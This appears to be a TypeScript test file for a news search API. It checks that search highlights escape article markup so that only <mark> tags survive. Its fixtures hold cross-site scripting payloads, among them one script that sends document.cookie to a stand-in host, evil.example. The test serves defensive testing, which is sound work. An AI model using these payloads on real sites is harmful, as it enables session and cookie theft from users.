import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { SearchResponse } from '../../search-api/search/search-service';
import type { RunningServer } from '../../search-api/server';
import { indexInto, startServiceWith, testEngine, uniqueIndex } from '../support/harness';
import { writeJsonl } from '../support/reliability';

/** Markup inside article text comes out of the API as text: in highlights only <mark> is markup. */

const engine = testEngine();
const index = uniqueIndex('xss');
const dir = mkdtempSync(path.join(os.tmpdir(), 'news-xss-'));
const HOSTILE = [
  {
    title: 'Summit <script>alert("title")</script> communiqué <img src=x onerror=alert(1)>',
    body: 'Leaders met. <script>document.location="https://evil.example/?c="+document.cookie</script> The summit ended with <img src=x onerror="alert(2)"> a declaration & "quotes" \'single\' <mark>fake</mark>.',
    outlet: 'Reuters',
    published: '2025-09-01T10:00:00+08:00',
    url: null,
  },
  {
    title: '峰会 <svg onload=alert(3)> 上海合作组织',
    body: '上海合作组织峰会 <iframe src="javascript:alert(4)"></iframe> 在天津举行。',
    outlet: '新华社',
    published: '2025-09-01T11:00:00+08:00',
    url: null,
  },
];
let server: RunningServer;

beforeAll(async () => {
  const summary = await indexInto(engine, index, [writeJsonl(path.join(dir, 'hostile.jsonl'), HOSTILE)]);
  expect(summary).toMatchObject({ indexed: 2, skipped: 0 });
  server = await startServiceWith(index);
});
afterAll(async () => {
  await server?.close(1_000);
  await engine.deleteIndexIfExists(index);
  rmSync(dir, { recursive: true, force: true });
});

/** What is left of a highlight once the only allowed tags are removed: it must hold no markup at all. */
const withoutMarks = (html: string) => html.replaceAll('<mark>', '').replaceAll('</mark>', '');

it.each([['summit'], ['alert'], ['script'], ['onerror'], ['上海合作组织'], ['峰会']])('escapes everything but <mark> in highlights for %s', async (q) => {
  const res = await fetch(`${server.url}/api/search?q=${encodeURIComponent(q)}`);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  const body = (await res.json()) as SearchResponse;
  expect(body.hits.length).toBeGreaterThan(0);
  for (const hit of body.hits) {
    for (const html of [hit.highlight.title, hit.highlight.snippet]) {
      expect(withoutMarks(html)).not.toMatch(/[<>]/);
      expect(html).not.toMatch(/<(?!\/?mark>)/);
    }
  }
  const all = body.hits.map((h) => h.highlight.title + h.highlight.snippet).join('\n');
  expect(all).toMatch(/&lt;(script|svg|iframe|img)/);
  // The article's own "<mark>fake</mark>" is text too, never a highlight.
  expect(all).not.toContain('<mark>fake</mark>');
});

it('shows the exact escaped form of the hostile title', async () => {
  const res = await fetch(`${server.url}/api/search?q=communiqu%C3%A9`);
  const hit = ((await res.json()) as SearchResponse).hits[0];
  expect(hit?.highlight.title).toBe('Summit &lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt; <mark>communiqué</mark> &lt;img src=x onerror=alert(1)&gt;');
  // title and body are plain text in JSON, for rendering as text (docs/api.md).
  expect(hit?.title).toBe(HOSTILE[0]?.title);
});
